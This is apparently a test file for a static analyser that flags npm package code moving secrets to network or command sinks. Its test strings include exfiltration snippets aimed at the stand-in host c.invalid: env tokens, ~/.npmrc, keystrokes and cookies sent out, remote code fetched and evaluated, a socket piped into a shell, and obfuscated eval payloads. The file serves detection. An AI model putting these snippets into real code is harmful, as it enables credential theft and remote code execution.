import { posix } from 'node:path'
import t from 'tap'
import { CodeAnalysis, type CodeHost } from '../../../../lib/inspect/code/analysis.ts'
import { HOLE, type Flow, type Phase } from '../../../../lib/types.ts'

type Files = Readonly<Record<string, string>>

function analyse(files: Files, phase: Phase = 'import', entry = 'i.js', budget?: number) {
  const host: CodeHost = {
    text: path => files[path],
    resolve: (from, specifier) => {
      if (!specifier.startsWith('.')) return undefined
      const base = posix.join(posix.dirname(from), specifier)
      return [base, `${base}.js`, `${base}.mjs`, `${base}.json`, `${base}/index.js`].find(
        path => path in files,
      )
    },
    manifest: { name: 'x', version: '1.0.0', description: undefined, raw: {} },
  }
  const analysis = new CodeAnalysis(host, budget === undefined ? {} : { budget })
  analysis.addEntry({ path: entry, phase, via: 'main' })
  for (let round = 0; round < 10; round++) {
    analysis.run()
    if (analysis.takeCommands().length === 0) break
  }
  return analysis.result()
}

const short = ({ source, sink }: Flow) =>
  `${source.kind} ${source.name} -> ${sink.kind} ${sink.role} ${sink.at.path}:${sink.at.line}`

const flowsOf = (files: Files) => analyse(files).flows.map(short)

t.test('data of a source that reaches a sink is a flow, whatever way it takes', t => {
  const send = (body: string) => `fetch('https://c.invalid/', { method: 'POST', body: ${body} })`
  const env = 'env process.env -> network payload i.js:1'
  const npmrc = 'credential-file ~/.npmrc -> network payload i.js:1'
  const token = 'env-secret NPM_TOKEN -> network payload i.js:1'
  const rows: readonly (readonly [files: Files | string, flow: string])[] = [
    // aliases, destructuring, defaults
    [send('JSON.stringify(process.env)'), env],
    [`const { env } = process; ${send('JSON.stringify(env)')}`, env],
    [`const p = process, k = 'en' + 'v'; ${send('JSON.stringify(p[k])')}`, env],
    [`const { NPM_TOKEN: t } = process.env; ${send('t')}`, token],
    [`let f = (a, b = process.env.NPM_TOKEN) => b; ${send('f(1)')}`, token],
    [`(0, fetch)('https://c.invalid', { body: process.env.NPM_TOKEN })`, token],
    [send('JSON.stringify({ ...process.env })'), env],
    [
      `const o = {}; for (const k in process.env) o[k] = process.env[k]; ${send('JSON.stringify(o)')}`,
      'env process.env[…] -> network payload i.js:1',
    ],
    [`const a = []; a.push(process.env.NPM_TOKEN); ${send("a.join('')")}`, token],
    [
      `document.addEventListener('keydown', e => ${send('e.key')})`,
      'browser keys as they are typed -> network payload i.js:1',
    ],
    // what somebody else made keeps what is put into it
    [`const o = require('x')(); o.t = process.env.NPM_TOKEN; ${send('o.t')}`, token],
    [`const o = require('x')(); o.a.t = process.env.NPM_TOKEN; ${send('JSON.stringify(o)')}`, token],
    [`exports.f = o => { o.t = process.env.NPM_TOKEN; ${send('JSON.stringify(o)')} }`, token],
    [
      `class A { f(o) { this.o = o; this.o.t = process.env.NPM_TOKEN; ${send('this.o.t')} } } exports.A = A`,
      token,
    ],
    [`const o = require('x')(); Object.assign(o, { t: process.env.NPM_TOKEN }); ${send('o.t')}`, token],
    [`const F = require('x'), f = new F(); f.append('t', process.env.NPM_TOKEN); ${send('f')}`, token],
    [`const l = require('x')(); l.push(process.env.NPM_TOKEN); ${send('l.join()')}`, token],
    [send("Object.entries(process.env).map(([k, v]) => k + '=' + v).join()"), env],
    [`const m = new Map(); m.set('t', process.env.NPM_TOKEN); ${send("m.get('t')")}`, token],
    [`const d = new FormData(); d.append('t', process.env.NPM_TOKEN); ${send('d')}`, token],
    [`const x = \`a\${process.env.NPM_TOKEN}b\`; ${send("Buffer.from(x).toString('base64')")}`, token],
    [`const o = { toString() { return process.env.NPM_TOKEN } }; ${send("'' + o")}`, token],
    [`const o = { get t() { return process.env.NPM_TOKEN } }; ${send('o.t')}`, token],
    [
      `function f() { return g.apply(null, arguments) } function g(a) { return a } ${send('f(process.env.NPM_TOKEN)')}`,
      token,
    ],
    [
      `const f = function (h, b) { return fetch(h, { body: b }) }.bind(null, 'https://c.invalid'); f(process.env.NPM_TOKEN)`,
      token,
    ],
    // classes
    [
      `class A { #t = process.env.NPM_TOKEN; get t() { return this.#t } send() { ${send('this.t')} } } new A().send()`,
      token,
    ],
    [
      `class A { send(d) { ${send('d')} } } class B extends A { go() { super.send(process.env.NPM_TOKEN) } } new B().go()`,
      token,
    ],
    [
      `function A() { this.t = process.env.NPM_TOKEN } A.prototype.go = function () { ${send('this.t')} }; new A().go()`,
      token,
    ],
    // files and folders
    [
      `const fs = require('fs'), os = require('os'), path = require('path'); ${send("fs.readFileSync(path.join(os.homedir(), '.npmrc'))")}`,
      npmrc,
    ],
    [`require('fs').readFile(process.env.HOME + '/.npmrc', 'utf8', (e, d) => { ${send('d')} })`, npmrc],
    [
      `require('fs').promises.readFile(require('os').homedir() + '/.npmrc').then(String).then(d => ${send('d')})`,
      npmrc,
    ],
    [
      `const fs = require('fs'); fs.createReadStream('~/.npmrc').pipe(require('https').request('https://c.invalid'))`,
      'credential-file ~/.npmrc -> network payload i.js:1',
    ],
    // asynchronous styles
    [`(async () => { const t = await Promise.resolve(process.env.NPM_TOKEN); ${send('t')} })()`, token],
    [`new Promise(r => r(process.env.NPM_TOKEN)).then(t => { ${send('t')} })`, token],
    [`setTimeout(t => { ${send('t')} }, 10, process.env.NPM_TOKEN)`, token],
    [`[process.env.NPM_TOKEN].forEach(t => { ${send('t')} })`, token],
    [`process.on('exit', () => { ${send('process.env.NPM_TOKEN')} })`, token],
    // ways to require
    [`module.require('https').request({ host: 'c.invalid' }).end(process.env.NPM_TOKEN)`, token],
    [
      `globalThis['req' + 'uire']('https').get('https://c.invalid/' + process.env.NPM_TOKEN)`,
      'env-secret NPM_TOKEN -> network dest i.js:1',
    ],
    [`process.mainModule.require('https').request({ host: 'c.invalid' }).end(process.env.NPM_TOKEN)`, token],
    [`module.constructor._load('https').request({ host: 'c.invalid' }).end(process.env.NPM_TOKEN)`, token],
    [`process.getBuiltinModule('https').request({ host: 'c.invalid' }).end(process.env.NPM_TOKEN)`, token],
    [
      `Function('return this')().process; import('node:https').then(h => h.request('https://c.invalid').end(process.env.NPM_TOKEN))`,
      token,
    ],
    // other sinks
    [
      `require('dns').lookup(require('os').hostname() + '.c.invalid', () => {})`,
      'host os.hostname -> dns name i.js:1',
    ],
    [
      `require('child_process').exec('curl https://c.invalid/' + process.env.NPM_TOKEN)`,
      'env-secret NPM_TOKEN -> command command i.js:1',
    ],
    [
      `require('child_process').spawn('curl', ['-d', process.env.NPM_TOKEN])`,
      'env-secret NPM_TOKEN -> command argument i.js:1',
    ],
    [`const c = require('net').connect(1, 'c.invalid'); c.write(process.env.NPM_TOKEN)`, token],
    [`const w = new WebSocket('wss://c.invalid'); w.onopen = () => w.send(process.env.NPM_TOKEN)`, token],
    [
      `const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid'); x.send(document.cookie)`,
      'browser document.cookie -> network payload i.js:1',
    ],
    [
      `require('axios').create({ baseURL: 'https://c.invalid' }).post('/x', { t: process.env.NPM_TOKEN })`,
      token,
    ],
    // what a server says becomes code, a program, a module
    [
      `fetch('https://c.invalid').then(r => r.text()).then(eval)`,
      'network https://c.invalid -> evaluate code i.js:1',
    ],
    [
      `require('https').get('https://c.invalid', r => { let c = ''; r.on('data', d => (c += d)); r.on('end', () => eval(c)) })`,
      'network https://c.invalid -> evaluate code i.js:1',
    ],
    [
      `(async () => { try { await require('axios').get('https://c.invalid') } catch (e) { new Function('require', e.response.data)(require) } })()`,
      'network https://c.invalid -> evaluate code i.js:1',
    ],
    [
      `fetch('https://c.invalid').then(r => r.text()).then(c => new module.constructor()._compile(c, ''))`,
      'network https://c.invalid -> evaluate code i.js:1',
    ],
    [
      `const fs = require('fs'); fetch('https://c.invalid').then(r => r.text()).then(c => { fs.writeFileSync('/tmp/a.js', c); require('/tmp/a.js') })`,
      'network https://c.invalid -> load file i.js:1',
    ],
    [
      `const p = require('path').join(require('os').tmpdir(), 'a'); require('https').get('https://c.invalid', r => { r.pipe(require('fs').createWriteStream(p)); require('child_process').spawn(p) })`,
      'network https://c.invalid -> command file i.js:1',
    ],
    [
      `const s = require('child_process').spawn('sh'); const c = new (require('net').Socket)(); c.connect(1, 'c.invalid', () => { c.pipe(s.stdin) })`,
      'network c.invalid:1 -> command-stdin stdin i.js:1',
    ],
    // other files
    [
      { 'i.js': `require('./s').send(process.env.NPM_TOKEN)`, 's.js': `exports.send = d => ${send('d')}` },
      'env-secret NPM_TOKEN -> network payload s.js:1',
    ],
    [
      {
        'i.js': `import { send as s } from './s.js'; s(process.env.NPM_TOKEN)`,
        's.js': `export * from './t.js'`,
        't.js': `export function send(d) { ${send('d')} }`,
      },
      'env-secret NPM_TOKEN -> network payload t.js:1',
    ],
    [
      {
        'i.js': `import s from './s.js'\ns(process.env.NPM_TOKEN)`,
        's.js': `export default d => ${send('d')}`,
      },
      'env-secret NPM_TOKEN -> network payload s.js:1',
    ],
    [
      {
        'i.js': `const c = require('./c.json'); fetch(c.u + process.env.NPM_TOKEN)`,
        'c.json': `{ "u": "https://c.invalid/" }`,
      },
      'env-secret NPM_TOKEN -> network dest i.js:1',
    ],
    // code in texts
    [
      `new Function('require', "fetch('https://c.invalid/' + process.env.NPM_TOKEN)")(require)`,
      'env-secret NPM_TOKEN -> network dest i.js:1 (Function):1',
    ],
    [
      `eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vYy5pbnZhbGlkLycgKyBwcm9jZXNzLmVudi5OUE1fVE9LRU4p', 'base64').toString())`,
      'env-secret NPM_TOKEN -> network dest i.js:1 (eval):1',
    ],
    [
      `eval([102, 101, 116, 99, 104].map(c => String.fromCharCode(c)).join('') + "('https://c.invalid/' + process.env.NPM_TOKEN)")`,
      'env-secret NPM_TOKEN -> network dest i.js:1 (eval):1',
    ],
    // tables of modules, as bundlers write them
    [
      `(() => { var m = { 1: (e, x, r) => { e.exports = r(2) }, 2: (e, x, r) => { e.exports = d => ${send('d')} } }, c = {}; function r(i) { var e = c[i]; if (e !== undefined) return e.exports; var n = (c[i] = { exports: {} }); m[i](n, n.exports, r); return n.exports } r(1)(process.env.NPM_TOKEN) })()`,
      token,
    ],
    [
      `var s = ((f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports))((e, m) => { m.exports = d => ${send('d')} }); s()(process.env.NPM_TOKEN)`,
      token,
    ],
    // dialects
    [`with (process.env) { ${send('NPM_TOKEN')} }`, token],
    [`const t: string = process.env.NPM_TOKEN!; ${send('t as any')}`, token],
    [`<!-- a comment\n${send('process.env.NPM_TOKEN')}`, 'env-secret NPM_TOKEN -> network payload i.js:2'],
    [
      `\u{feff}#!/usr/bin/env node\n${send('process.env.NPM_TOKEN')}`,
      'env-secret NPM_TOKEN -> network payload i.js:2',
    ],
    [`f\\u0065tch('https://c.invalid', { body: process.env.NPM_TOKEN })`, token],
  ]
  for (const [source, flow] of rows) {
    const files = typeof source === 'string' ? { 'i.js': source } : source
    const found = flowsOf(files)
    t.ok(found.includes(flow), JSON.stringify(source).slice(0, 160), { found, wanted: flow })
  }
  t.end()
})

t.test('honest code of the same shape has no flow', t => {
  const rows: readonly string[] = [
    `fetch('http://localhost:3000', { method: 'POST', body: JSON.stringify(process.env) })`,
    `require('net').connect('/tmp/daemon.sock').write(process.env.NPM_TOKEN)`,
    `require('child_process').spawn('make', [], { env: { ...process.env, CC: 'gcc' } })`,
    `if (process.env.NPM_TOKEN) fetch('https://c.invalid')`,
    `fetch('https://c.invalid', { agent: process.env.HTTPS_PROXY })`,
    `const l = process.env.NPM_TOKEN.length; console.log(l)`,
    `const h = require('crypto').createHash('sha256').update(require('os').hostname()).digest('hex'); fetch('https://c.invalid/' + h)`,
    `const t = new Function('return import("x")'); t()`,
    `const v = require('./package.json').version; fetch('https://c.invalid/' + v)`,
    `const a = process.env.NPM_TOKEN; { const a = 1; fetch('https://c.invalid/' + a) }`,
    `function f(x) { return x } f(process.env.NPM_TOKEN); fetch('https://c.invalid/' + f('a'))`,
    `const f = false; if (f) fetch('https://c.invalid/' + process.env.NPM_TOKEN)`,
  ]
  for (const source of rows) {
    const { flows, gaps } = analyse({ 'i.js': source, 'package.json': '{"version":"1.0.0"}' })
    t.strictSame(flows.filter(flow => flow.source.kind !== 'caller').map(short), [], source)
    t.strictSame(gaps, [], `${source}: no gap`)
  }
  t.end()
})

t.test('parameters of exported functions that are named like secrets are sources of a call', t => {
  const rows: readonly (readonly [string, string])[] = [
    [
      `module.exports = class { constructor(apiKey, secret) { this.s = secret } go() { return fetch('https://c.invalid', { headers: { x: this.s } }) } }`,
      'caller-secret secret -> network header i.js:1',
    ],
    [
      `exports.sign = ({ privateKey }) => fetch('https://c.invalid/?k=' + privateKey)`,
      'caller-secret privateKey -> network dest i.js:1',
    ],
    [
      `export function login(options) { fetch('https://c.invalid', { body: JSON.stringify({ p: options.password }) }) }`,
      'caller-secret password -> network payload i.js:1',
    ],
    [
      `module.exports = o => ({ send: mnemonic => fetch('https://c.invalid', { body: mnemonic }) })`,
      'caller-secret mnemonic -> network payload i.js:1',
    ],
  ]
  for (const [source, flow] of rows) {
    const { flows } = analyse({ 'i.js': source })
    const found = flows.find(one => short(one) === flow)
    t.ok(found, source, { found: flows.map(short) })
    t.equal(found?.byCall, true, `${source}: by a call`)
    t.equal(found?.phase, 'run', `${source}: on use`)
  }
  t.end()
})

t.test('a statement belongs to the first phase that reaches it', t => {
  const files = {
    'i.js': `const s = require('./s')\nexports.go = () => s(process.env.NPM_TOKEN)\n`,
    's.js': `module.exports = d => fetch('https://c.invalid', { body: d })`,
  }
  t.strictSame(
    analyse(files).flows.map(({ phase, byCall }) => ({ phase, byCall })),
    [{ phase: 'run', byCall: true }],
  )
  const called = { ...files, 'i.js': `${files['i.js']}exports.go()` }
  t.strictSame(
    analyse(called).flows.map(({ phase, byCall }) => ({ phase, byCall })),
    [{ phase: 'import', byCall: false }],
  )
  t.strictSame(
    analyse(called, 'install').flows.map(({ phase }) => phase),
    ['install'],
  )
  t.strictSame(
    [...analyse(called, 'install').filePhases],
    [
      ['i.js', 'install'],
      ['s.js', 'install'],
    ],
  )
  t.end()
})

t.test('code that the package hands to nobody runs by a call only', t => {
  const send = `fetch('https://c.invalid')`
  const star = `var __importStar = (this && this.__importStar) || function (m) { return m && m.__esModule ? m : { default: m } };`
  const rows: readonly (readonly [name: string, files: Files, phases: readonly Phase[]])[] = [
    [
      'loaded through the helper of a compiler',
      {
        'i.js': `${star}const a = __importStar(require('./a')); exports.a = a`,
        'a.js': `exports.f = () => ${send}`,
      },
      ['run'],
    ],
    [
      'passed where nothing is expected',
      {
        'i.js': `const make = hook => { const f = () => ${send}; if (hook !== undefined) hook(f); return f }; exports.f = make()`,
      },
      ['run'],
    ],
    [
      'passed to its own function, which somebody might have replaced',
      {
        'i.js': `const all = { each(list, g) { for (const one of list) g(one) } }; require('x')(all); all.each([1], one => () => ${send}); const f = () => ${send}; all.each([f], one => one.name)`,
      },
      ['run', 'run'],
    ],
    [
      'compared',
      { 'i.js': `const known = require('x')(); const f = () => ${send}; known.indexOf(f); exports.f = f` },
      ['run'],
    ],
    [
      'called by what it is passed to',
      { 'i.js': `const all = { each(g) { g() } }; require('x')(all); all.each(() => ${send})` },
      ['import'],
    ],
    ['passed to another package', { 'i.js': `require('x')(() => ${send})` }, ['import']],
  ]
  for (const [name, files, phases] of rows) {
    const contacts = analyse(files).facts.filter(fact => fact.kind === 'contacts')
    t.strictSame(
      contacts.map(fact => fact.phase),
      phases,
      name,
    )
  }
  t.end()
})

t.test('a name that has no value yet does not decide a test', t => {
  const send = `fetch('https://c.invalid')`
  const rows = [
    `let bad; if (process.argv[2]) bad = 'x'; if (bad) throw new Error(bad); ${send}`,
    `var bad; if (process.argv[2]) bad = 'x'; if (!bad) ${send}`,
    `let bad; const note = () => { bad = 'x' }; note.call; if (bad) process.exit(); else ${send}`,
    `function f(a) { let bad; if (a) bad = 'x'; if (a && bad) return; ${send} } f(process.argv[2])`,
    // whatever throws leaves it as it was
    `let m; try { m = require('./n.js') } catch {} if (!!m) process.exit(); else ${send}`,
    `let m = null; try { m = require('./n.js'); m.check() } catch (e) { console.warn(e) } if (!m) ${send}`,
    `function f() { let m = 0; try { m = 1; g() } catch {} if (m) return; ${send} } f()`,
    // nor does a system that has no such folder
    `if (!process.env.APPDATA) ${send}`,
    `const folder = process.env.LOCALAPPDATA || fetch('https://c.invalid')`,
  ]
  for (const source of rows) {
    const { facts } = analyse({ 'i.js': source, 'n.js': 'exports.check = () => {}' })
    t.ok(
      facts.some(fact => fact.kind === 'contacts' && fact.phase === 'import'),
      source,
    )
  }
  t.end()
})

t.test('what a compiler puts around a module is not mixed up with other modules', t => {
  const interop = `var d = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod } };`
  const names = Array.from({ length: 40 }, (_, at) => `const m${at} = d(require('m${at}'));`).join('')
  const { facts } = analyse({
    'i.js': `${interop}${names}const c = d(require('child_process')); m39.default('x'); c.default.execSync('tool')`,
  })
  t.strictSame(
    facts.filter(fact => fact.kind === 'starts').map(fact => fact.commands),
    [['tool']],
  )
  t.end()
})

t.test('guards on the way are named and remove nothing', t => {
  const rows: readonly (readonly [string, readonly string[]])[] = [
    [`if (process.platform === 'win32') fetch('https://c.invalid/' + process.env.NPM_TOKEN)`, ['platform']],
    [`if (process.env.CI) return; fetch('https://c.invalid/' + process.env.NPM_TOKEN)`, ['ci']],
    [`if (Date.now() > 1e12) fetch('https://c.invalid/' + process.env.NPM_TOKEN)`, ['time']],
    [`require.main === module && fetch('https://c.invalid/' + process.env.NPM_TOKEN)`, ['main']],
  ]
  for (const [source, kinds] of rows) {
    const { flows } = analyse({ 'i.js': source })
    t.strictSame(
      flows.map(flow => flow.guards.map(guard => guard.kind)),
      [kinds],
      source,
    )
  }
  t.end()
})

t.test('what a package can do is told with its place', t => {
  const rows: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
    [`fetch('https://a.invalid/' + x)`, { kind: 'contacts', destinations: ['https://a.invalid/\u0001'] }],
    [
      `const a = process.env.SITE || 'https://a.invalid'; fetch([a, 'v1', process.arch].join('/'))`,
      { kind: 'contacts', destinations: ['https://a.invalid/v1/\u0001'] },
    ],
    [
      `fetch(require('url').resolve('https://a.invalid/', 'x/' + process.argv[2]))`,
      { kind: 'contacts', destinations: ['https://a.invalid/x/\u0001'] },
    ],
    [
      // many paths of one host leave room for another
      `let u = 'https://b.invalid/'; for (const p of ['1', '2', '3', '4', '5', '6', '7']) if (process.argv[p]) u = 'https://a.invalid/' + p
      if (process.argv[9]) u = 'https://c.invalid/'
      fetch(u)`,
      { kind: 'contacts', destinations: /https:\/\/b\.invalid.*https:\/\/c\.invalid/s },
    ],
    [
      // each key of a table is copied under its own name
      `const table = { 'a': { host: 'https://a.invalid', note: 'x' }, b: { host: 'https://b.invalid', note: 'y' } }
      const options = {}; const from = table[process.argv[2]]; for (const key in from) options[key] = from[key]
      fetch(options.host)`,
      { kind: 'contacts', destinations: ['https://a.invalid', 'https://b.invalid'] },
    ],
    [
      `require('https').request({ host: 'a.invalid', port: 8443, path: '/p' })`,
      { kind: 'contacts', destinations: ['https://a.invalid:8443/p'] },
    ],
    [
      `require('child_process').spawn('tar', ['-x', 'f'], { detached: true, stdio: 'ignore' })`,
      { kind: 'starts', commands: ['tar -x f'], manner: ['detached', 'stdio-ignored'] },
    ],
    [
      `require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x')`,
      { kind: 'writes', paths: ['~/.bashrc'], contents: ['x'] },
    ],
    [`require('fs').rmSync('/x', { recursive: true })`, { kind: 'deletes', paths: ['/x'] }],
    [`require('fs').chmodSync('/x', 0o755)`, { kind: 'makes-executable', paths: ['/x'] }],
    [`require(process.argv[2])`, { kind: 'loads', native: false }],
    [`process.dlopen(module, '/x.node')`, { kind: 'loads', native: true, targets: ['/x.node'] }],
    [`globalThis.fetch = f => f`, { kind: 'patches', target: 'fetch' }],
    [`require('http').request = f => f`, { kind: 'patches', target: 'node:http.request' }],
    [`process.on('exit', () => {})`, { kind: 'listens', event: 'exit' }],
    [`eval('1 + 1')`, { kind: 'evaluates', code: 'constant' }],
    [
      `require('fs').unlinkSync(require('path').dirname(require.resolve('./i.js')) + '/x')`,
      { kind: 'deletes', paths: ['<package>/x'] },
    ],
    [
      `const u = process.argv[2] ? 'https://a.invalid' : 'https://b.invalid'
      require('fs').writeFileSync('/x/' + Buffer.from(u).toString('base64') + '.zip', '')`,
      { kind: 'writes', paths: ['/x/aHR0cHM6Ly9hLmludmFsaWQ=.zip', '/x/aHR0cHM6Ly9iLmludmFsaWQ=.zip'] },
    ],
    [`eval(x)`, { kind: 'evaluates', code: 'computed' }],
  ]
  for (const [source, wanted] of rows) {
    const { facts } = analyse({ 'i.js': source })
    const found = facts.find(fact => fact.kind === wanted['kind'])
    t.match(found, wanted, source)
    t.equal(found?.at.path, 'i.js')
  }
  t.end()
})

t.test('what an install script leaves to other packages is named', t => {
  const source = `const get = require('@x/get/lib'); import('y'); require('fs'); require('./n.js'); later()
    function later() { require('z') }`
  const used = (phase: Phase) =>
    analyse({ 'i.js': source, 'n.js': '' }, phase)
      .facts.flatMap(fact => (fact.kind === 'uses' ? [fact.name] : []))
      .toSorted()
  t.same(used('install'), ['@x/get', 'y', 'z'])
  t.same(used('import'), [], 'a program is expected to use its dependencies')
  t.end()
})

t.test('the current folder of an install script is that of its package', t => {
  const load = `require(require('path').resolve('lib/n.js')); require(process.cwd() + '/package.json')`
  const files = { 'i.js': load, 'lib/n.js': `fetch('https://c.invalid')`, 'package.json': '{}' }
  t.ok(analyse(files, 'install').facts.some(({ kind, phase }) => kind === 'contacts' && phase === 'install'))
  t.notOk(analyse(files, 'import').facts.some(({ kind }) => kind === 'contacts'))
  const commandsOf = (phase: Phase) => {
    const text = `require('child_process').execFileSync(process.execPath, [process.cwd() + '/n.js', process.cwd() + '/m.js'])`
    const sources: Files = { 'i.js': text, 'n.js': '' }
    const host: CodeHost = {
      text: path => sources[path],
      resolve: () => undefined,
      manifest: { name: 'x', version: '1.0.0', description: undefined, raw: {} },
    }
    const analysis = new CodeAnalysis(host)
    analysis.addEntry({ path: 'i.js', phase, via: 'main' })
    analysis.run()
    return analysis.takeCommands().flatMap(({ args }) => args ?? [])
  }
  t.same(commandsOf('install'), ['./n.js', '/__project__/m.js'])
  t.same(commandsOf('import'), ['/__project__/n.js', '/__project__/m.js'])
  t.end()
})

t.test('commands that code starts are handed out once, files of the package as the hook sees them', t => {
  const host: CodeHost = {
    text: path =>
      path === 'i.js'
        ? `require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'lib', 'x.js')])`
        : undefined,
    resolve: () => undefined,
    manifest: { name: 'x', version: '1.0.0', description: undefined, raw: {} },
  }
  const analysis = new CodeAnalysis(host)
  analysis.addEntry({ path: 'i.js', phase: 'install', via: 'postinstall' })
  analysis.run()
  t.match(analysis.takeCommands(), [{ text: 'node', args: ['./lib/x.js'], shell: false, phase: 'install' }])
  analysis.run()
  t.strictSame(analysis.takeCommands(), [])
  t.end()
})

t.test('hostile texts end, and what cannot be read is a gap', { timeout: 120_000 }, t => {
  const many = 100_000
  const nested: Readonly<Record<string, string>> = {
    parentheses: '('.repeat(many) + '1' + ')'.repeat(many),
    arrays: '['.repeat(many) + ']'.repeat(many),
    blocks: '{'.repeat(many) + '}'.repeat(many),
    functions: '(function(){'.repeat(many) + '})'.repeat(many),
    arrows: 'a=>'.repeat(many) + '1',
    conditionals: 'a?'.repeat(many) + '1' + ':1'.repeat(many),
    'else if': 'if(a)b;else '.repeat(many) + 'c',
    templates: '`${'.repeat(many) + '1' + '}`'.repeat(many),
    negations: '!'.repeat(many) + '1',
    classes: '(class extends '.repeat(many) + 'Object' + '{})'.repeat(many),
    patterns: `var ${'['.repeat(many)}a${']'.repeat(many)}=1`,
    groups: `/${'('.repeat(many)}${')'.repeat(many)}/`,
    elements: '<a>'.repeat(many) + '</a>'.repeat(many),
  }
  for (const [name, text] of Object.entries(nested)) {
    const { gaps, facts } = analyse({ 'i.js': text }, 'install')
    t.equal(gaps.length, 1, `${name}: a gap`)
    t.match(facts, [{ kind: 'unreadable' }], `${name}: and a fact`)
  }
  const tail = `\n;fetch('https://c.invalid/' + process.env.NPM_TOKEN)`
  const wide: Readonly<Record<string, string>> = {
    members: `a${'.b'.repeat(many)}`,
    calls: `f${'()'.repeat(many)}`,
    'method calls': `f${'.a()'.repeat(many)}`,
    commas: `a${',b'.repeat(many)}`,
    declarations: Array.from({ length: 50_000 }, (_, at) => `let v${at}=1`).join(';'),
    'a function each': Array.from({ length: many }, (_, at) => `function f${at}(a){return a+${at}}`).join(
      '\n',
    ),
    'a long text': `x="${'a'.repeat(10_000_000)}"`,
    'a text that doubles': 'let s="a"; for(let i=0;i<100;i++) s+=s',
    'a text made huge': 'let s="ab".repeat(1e9).padEnd(1e9)',
    'endless loops': 'for(;;){if(x)break} while(true){if(x)break}',
    'a loop in a prototype': 'const o={}; o.__proto__=o; o.toString()',
    recursion: 'function a(x){return b([x])} function b(x){return a({x})} a(1)',
  }
  for (const [name, text] of Object.entries(wide)) {
    const { gaps, flows } = analyse({ 'i.js': text + tail }, 'install')
    t.strictSame(gaps, [], `${name}: no gap`)
    t.equal(flows.length, 1, `${name}: what follows is still seen`)
  }
  t.match(analyse({ 'i.js': 'x();'.repeat(50_000) }, 'install', 'i.js', 10_000).gaps, [{ kind: 'content' }])
  t.match(analyse({ 'i.js': 'let = = 1' }, 'import').gaps, [{ kind: 'content', path: 'i.js' }])
  t.end()
})

t.test('the order in which entries are added changes nothing', t => {
  const files: Files = {
    'a.js': `require('./c')(process.env.A_TOKEN)`,
    'b.js': `require('./c')(process.env.B_TOKEN)`,
    'c.js': `module.exports = d => fetch('https://c.invalid', { body: d })`,
  }
  const run = (paths: readonly string[]) => {
    const host: CodeHost = {
      text: path => files[path],
      resolve: (_from, specifier) => `${specifier.slice(2)}.js`,
      manifest: { name: 'x', version: '1.0.0', description: undefined, raw: {} },
    }
    const analysis = new CodeAnalysis(host)
    for (const path of paths) analysis.addEntry({ path, phase: 'import', via: 'main' })
    analysis.run()
    return JSON.stringify(analysis.result())
  }
  t.equal(run(['a.js', 'b.js', 'c.js']), run(['c.js', 'b.js', 'a.js']))
  t.end()
})

t.test(
  'a bundle of megabytes is read to the end, and what is hidden in it is found',
  { timeout: 120_000 },
  t => {
    const pure = (at: number) =>
      `function f${at}(a, b) { const r = []; for (const x of a) r.push(b + x.k${at}); return r.map(y => f${at + 1}([y], b)) }\n`
    const bundle = (chars: number) => {
      let text = ''
      for (let at = 0; text.length < chars; at++) text += pure(at)
      return text
    }
    const hidden = [
      `function beacon() { require('https').request({ host: 'c.invalid' }).end(process.env.NPM_TOKEN) }\nbeacon()`,
      `const h = require('https'); const post = d => h.request({ host: 'c.invalid' }).end(d)\nfunction go(d) { post(d) }\ngo(process.env.NPM_TOKEN)`,
      `const o = { send(d) { fetch('https://c.invalid', { body: d }) } }\nfunction pass(p, d) { return p.send(d) }\npass(o, process.env.NPM_TOKEN)`,
      `function id(x) { return x }\nfetch('https://c.invalid', { body: id(process.env.NPM_TOKEN) })`,
    ]
    for (const chars of [100_000, 1_500_000]) {
      const text = bundle(chars)
      for (const code of hidden) {
        const { flows, gaps } = analyse({ 'i.js': `${text}${code}` })
        t.strictSame(gaps, [], `${chars}: ${code.slice(0, 40)}`)
        t.match(
          flows.find(flow => flow.source.name === 'NPM_TOKEN'),
          { sink: { kind: 'network' }, phase: 'import' },
        )
      }
    }
    t.end()
  },
)

t.test('an address that is tidied up before it is used is still known', t => {
  const tidied = (text: string) => `fetch(${text} + '/x')`
  const rows: readonly (readonly [text: string, destinations: readonly string[]])[] = [
    ["'https://c.invalid/'.replace(/\\/+$/, '')", ['https://c.invalid/x']],
    ["(process.env.HOST || 'https://c.invalid/').replace(/\\/$/, '')", [`${HOLE}/x`, 'https://c.invalid/x']],
    ["'https://c-x.invalid'.replace(/-x/g, '')", ['https://c.invalid/x']],
    ["'https://a|https://c.invalid'.split(/[|]/)[1]", ['https://c.invalid/x']],
    ["'https://c.invalid'.replace(new RegExp(process.env.P), '')", [`${HOLE}/x`]],
    // What a function gives is only known when it runs.
    ["'https://c.invalid'.replace(/c/, () => process.title)", [`${HOLE}/x`]],
    ["'https://X.invalid'.replace('X', () => 'c')", ['https://c.invalid/x']],
    ["'https://X.invalid'.replace(new RegExp('x', 'i'), 'c')", ['https://c.invalid/x']],
    ["'u=https://c.invalid;'.match(/u=([^;]+)/)[1]", ['https://c.invalid/x']],
    ["/u=([^;]+)/.exec('u=https://c.invalid;')[1]", ['https://c.invalid/x']],
    ["require('util').format('%s://%s', 'https', 'c.invalid')", ['https://c.invalid/x']],
    ["require('url').format({ protocol: 'https', host: 'c.invalid' })", [`${HOLE}/x`, 'https://c.invalid/x']],
    ['String.raw`https://${"c.invalid"}`', ['https://c.invalid/x']],
    ["JSON.parse(JSON.stringify({ u: 'https://c.invalid' })).u", ['https://c.invalid/x']],
    ["require('lodash').get({ a: [{ u: 'https://c.invalid' }] }, 'a[0].u')", ['https://c.invalid/x']],
    ["new Proxy({}, { get: () => 'https://c.invalid' }).u", [`${HOLE}/x`, 'https://c.invalid/x']],
  ]
  for (const [text, destinations] of rows) {
    const { facts } = analyse({ 'i.js': tidied(text) })
    const contacts = facts.flatMap(fact => (fact.kind === 'contacts' ? [fact.destinations] : []))
    t.strictSame(contacts, [destinations], text)
  }
  // As an object it is what it was: a match is nobody's constant.
  const { flows } = analyse({
    'i.js': "const r = /t=(.*)/.exec(process.env.NPM_TOKEN); fetch('https://c.invalid/', { body: r[1] })",
  })
  t.strictSame(flows.map(short), ['env-secret NPM_TOKEN -> network payload i.js:1'])
  t.end()
})
